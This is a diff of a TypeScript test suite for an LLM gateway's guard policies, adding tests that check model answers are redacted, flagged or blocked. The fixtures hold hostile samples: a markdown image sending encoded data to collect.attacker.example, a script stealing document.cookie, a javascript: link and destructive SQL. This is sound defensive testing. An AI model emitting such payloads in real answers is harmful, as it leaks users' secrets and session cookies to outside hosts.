@@ -39,7 +39,14 @@ setupGateway(
     standardConfig(up, {
       admin: { token: ADMIN },
       auth: { required: false },
-      guards: { policies: { raw: ALL_OFF }, use_cases: { 'eval-harness': 'raw' } },
+      guards: {
+        policies: {
+          raw: ALL_OFF,
+          partner: { active_content: { allowed_hosts: ['attacker.example'] } },
+          strict: { active_content: { output: 'block', sql: 'block' } },
+        },
+        use_cases: { 'eval-harness': 'raw', 'partner-portal': 'partner', payments: 'strict' },
+      },
     }),
   (g) => {
     ({ oai, keel } = g);
@@ -48,15 +55,32 @@ setupGateway(
 
 type Message = Record<string, unknown>;
 
-async function chat(messages: Message[], opts: { key?: string; tools?: unknown[] } = {}) {
-  const res = await fetch(`${keel.url}/v1/chat/completions`, {
+interface CallOptions {
+  key?: string;
+  tools?: unknown[];
+  useCase?: string;
+  stream?: boolean;
+}
+
+function post(messages: Message[], opts: CallOptions): Promise<Response> {
+  return fetch(`${keel.url}/v1/chat/completions`, {
     method: 'POST',
     headers: {
       'content-type': 'application/json',
       ...(opts.key ? { authorization: `Bearer ${opts.key}` } : {}),
+      ...(opts.useCase ? { 'x-keel-use-case': opts.useCase } : {}),
     },
-    body: JSON.stringify({ model: 'gpt-4o', messages, ...(opts.tools ? { tools: opts.tools } : {}) }),
+    body: JSON.stringify({
+      model: 'gpt-4o',
+      messages,
+      ...(opts.tools ? { tools: opts.tools } : {}),
+      ...(opts.stream ? { stream: true } : {}),
+    }),
   });
+}
+
+async function chat(messages: Message[], opts: CallOptions = {}) {
+  const res = await post(messages, opts);
   const requestId = res.headers.get('x-keel-request-id');
   const body = obj(await res.json());
   const choice = obj((body.choices as unknown[] | undefined)?.[0] ?? {});
@@ -65,6 +89,19 @@ async function chat(messages: Message[], opts: { key?: string; tools?: unknown[]
 }
 
 const upstreamText = () => JSON.stringify(oai.last().body);
+
+/** The text of a streamed answer, from its SSE frames. */
+async function streamed(messages: Message[], opts: CallOptions = {}): Promise<string> {
+  const res = await post(messages, { ...opts, stream: true });
+  expect(res.status).toBe(200);
+  let text = '';
+  for (const line of (await res.text()).split('\n')) {
+    if (!line.startsWith('data: {')) continue;
+    const delta = obj(obj((obj(JSON.parse(line.slice(6))).choices as unknown[])[0] ?? {}).delta ?? {});
+    if (typeof delta.content === 'string') text += delta.content;
+  }
+  return text;
+}
 
 async function securityEvents(query = ''): Promise<Array<Record<string, unknown>>> {
   const res = await fetch(`${keel.url}/api/security-events?limit=200${query}`, {
@@ -164,12 +201,6 @@ describe('the default guard policy', () => {
     ]);
   });
 
-  it('redacts an answer’s image that sends data to an outside host', async () => {
-    oai.enqueue({ text: `Done ![x](https://collect.example/p.png?d=${AWS_KEY})` });
-    const r = await chat([{ role: 'user', content: 'Summarise the ticket' }]);
-    expect(r.content).toBe('Done [REDACTED:active.markdown_image]');
-  });
-
   it('stops a call to a tool the request did not offer', async () => {
     oai.enqueue({ toolCalls: [{ name: 'transfer_funds', arguments: '{}' }] });
     const r = await chat([{ role: 'user', content: 'Pay my bill' }], { tools: [WEATHER_TOOL] });
@@ -214,5 +245,62 @@ describe('a use case with every part switched off', () => {
     // A default-policy call after them: once its event is written, theirs would be too.
     await eventsOf((await chat([{ role: 'user', content: 'Mail me at grace@example.com' }])).requestId);
     expect(await securityEvents('&use_case=eval-harness')).toEqual([]);
+  });
+});
+
+const ASK: Message[] = [{ role: 'user', content: 'Summarise the ticket.' }];
+const EXFIL = '![status](https://collect.attacker.example/p.png?d=c2VjcmV0OiBodW50ZXIy)';
+
+describe('active content in answers', () => {
+  it('redacts a markdown image that sends data to an outside host, and records it', async () => {
+    oai.enqueue({ text: `Here is the summary. ${EXFIL} Anything else?` });
+    const r = await chat(ASK);
+    expect(r.status).toBe(200);
+    expect(r.content).toBe('Here is the summary. [REDACTED:active.markdown_image] Anything else?');
+    expect(await eventsOf(r.requestId)).toContainEqual(
+      expect.objectContaining({ detector: 'active_content', direction: 'output', action: 'redact' }),
+    );
+    const metrics = await (await fetch(`${keel.url}/metrics`)).text();
+    expect(metrics).toMatch(/keel_guard_decisions_total\{[^}]*detector="active_content"[^}]*\} [1-9]/);
+  });
+
+  it('redacts script and script URLs in a stream', async () => {
+    oai.enqueue({
+      text: 'Done. <script>fetch("https://x.example/?c="+document.cookie)</script> [more](javascript:alert(1)) Bye.',
+    });
+    expect(await streamed(ASK)).toBe('Done. [REDACTED:active.script] [REDACTED:active.script_url] Bye.');
+  });
+
+  it('flags SQL and leaves code shown as code alone', async () => {
+    const text =
+      'Run this:\n\n```sql\nDELETE FROM sessions WHERE expires < now();\n```\n\nor DROP TABLE sessions; to start over.';
+    oai.enqueue({ text });
+    const r = await chat(ASK);
+    expect(r.content).toBe(text);
+    expect(await eventsOf(r.requestId)).toEqual([
+      expect.objectContaining({
+        detector: 'active_content',
+        action: 'flag',
+        labels: ['active.code.sql_write', 'active.sql_write'],
+      }),
+    ]);
+  });
+
+  it('a key given a use case whose policy allows the host gets the image; a header alone does not', async () => {
+    const { secret } = await keel.app.services.keys.create(
+      { name: 'partner-app', models: ['*'], useCases: ['partner-portal'] },
+      'test',
+    );
+    oai.enqueue({ text: EXFIL });
+    expect((await chat(ASK, { key: secret })).content).toBe(EXFIL);
+    oai.enqueue({ text: EXFIL });
+    expect((await chat(ASK, { useCase: 'partner-portal' })).content).toBe('[REDACTED:active.markdown_image]');
+  });
+
+  it('a stricter use case blocks the answer', async () => {
+    oai.enqueue({ text: `x ${EXFIL}` });
+    expect(await chat(ASK, { useCase: 'payments' })).toMatchObject({ status: 502, code: 'output_blocked' });
+    oai.enqueue({ text: 'UPDATE accounts SET balance = 0 WHERE id = 7;' });
+    expect(await chat(ASK, { useCase: 'payments' })).toMatchObject({ status: 502, code: 'output_blocked' });
   });
 });
